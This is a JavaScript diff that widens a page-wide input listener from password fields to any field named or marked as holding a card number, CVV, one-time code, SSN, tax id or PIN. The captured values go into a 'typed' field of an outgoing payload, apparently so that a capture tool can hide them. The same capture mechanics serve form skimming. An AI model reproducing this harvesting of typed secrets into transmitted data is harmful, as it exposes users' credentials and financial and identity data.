@@ -318,9 +318,25 @@ const TYPED_SECRET_MAX = 256;
 const TYPED_SECRETS_PER_PAYLOAD = 16;
 let typedSecrets = [];
 
+// Besides password inputs, inputs that say they hold a secret whatever their type (a newcomer's
+// break: an SSN field of type text, echoed as typed, stored every prefix): `autocomplete` naming
+// a card number, its code or a one-time code, or a name, id or autocomplete naming an SSN, a tax
+// or national id, a card's code or a PIN (`ssn`, `social-security`, `tax_id`, `cvv`, ...).
+// Words, not hints like `inputmode="numeric"`: a search box, a quantity or a zip code says none
+// of them, and what is typed there stays readable where the page shows it.
+const SECRET_AUTOCOMPLETE = /(?:^|\s)(?:cc-number|cc-csc|one-time-code|current-password|new-password)(?:\s|$)/i;
+const SECRET_FIELD_NAME =
+  /(?:^|[-_\s.[])(?:ssn|social[-_\s]?security(?:[-_\s]?(?:number|no))?|tax[-_\s]?(?:id|number)|taxpayer[-_\s]?id|itin|national[-_\s]?id|cvv|cvc|csc|pin)(?:$|[-_\s.\]])/i;
+function secretInput(element) {
+  if (String(element.type).toLowerCase() === "password") return true;
+  const autocomplete = element.getAttribute("autocomplete") || "";
+  if (SECRET_AUTOCOMPLETE.test(autocomplete)) return true;
+  return [element.name, element.id, autocomplete].some((word) => word && SECRET_FIELD_NAME.test(word));
+}
+
 function noteTypedSecret(event) {
   const element = event.composedPath ? event.composedPath()[0] : event.target;
-  if (!element || element.tagName !== "INPUT" || String(element.type).toLowerCase() !== "password") return;
+  if (!element || element.tagName !== "INPUT" || !secretInput(element)) return;
   const value = element.value;
   if (typeof value !== "string" || value.length < TYPED_SECRET_MIN || value.length > TYPED_SECRET_MAX) return;
   typedSecrets = typedSecrets.filter((known) => !value.startsWith(known));
@@ -331,7 +347,7 @@ function noteTypedSecret(event) {
 addEventListener("input", noteTypedSecret, { capture: true, passive: true });
 addEventListener("change", noteTypedSecret, { capture: true, passive: true });
 
-// The `typed` field of the next payload (values typed into password inputs since the last one).
+// The `typed` field of the next payload (values typed into secret inputs since the last one).
 function takeTypedSecrets() {
   if (!typedSecrets.length) return "";
   const field = ',"typed":' + JSON.stringify(typedSecrets);
